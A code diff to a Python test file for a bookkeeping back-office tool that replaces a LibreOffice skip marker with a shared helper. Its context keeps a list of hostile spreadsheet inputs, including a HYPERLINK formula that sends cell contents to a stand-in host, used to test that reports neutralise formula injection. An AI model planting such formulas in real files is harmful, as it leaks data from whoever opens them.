@@ -21,6 +21,7 @@ import openpyxl
 import pytest
 from arapbook import arap_book
 from conftest import ACCOUNTS, ledger
+from programs import needs
 
 from backoffice.checking import check
 from backoffice.cli import main
@@ -30,8 +31,6 @@ from backoffice.reports import Field, Table, to_csv
 
 D = dt.date
 SOFFICE = shutil.which("soffice")
-needs_libreoffice = pytest.mark.skipif(
-    SOFFICE is None, reason="LibreOffice (soffice) is not installed; .ci/run installs it")
 
 #: Text a person (or an attacker) may type into a book, each beginning like a formula.
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)",
@@ -248,7 +247,7 @@ def _libreoffice_cells(csv_path: Path, tmp_path: Path, separator: str) -> list[l
             for row in book.active.iter_rows()]
 
 
-@needs_libreoffice
+@needs("soffice")
 def test_libreoffice_opens_the_report_with_no_formula_and_every_text_as_it_was(make_book,
                                                                              tmp_path):
     path = _hostile_ledger(make_book)
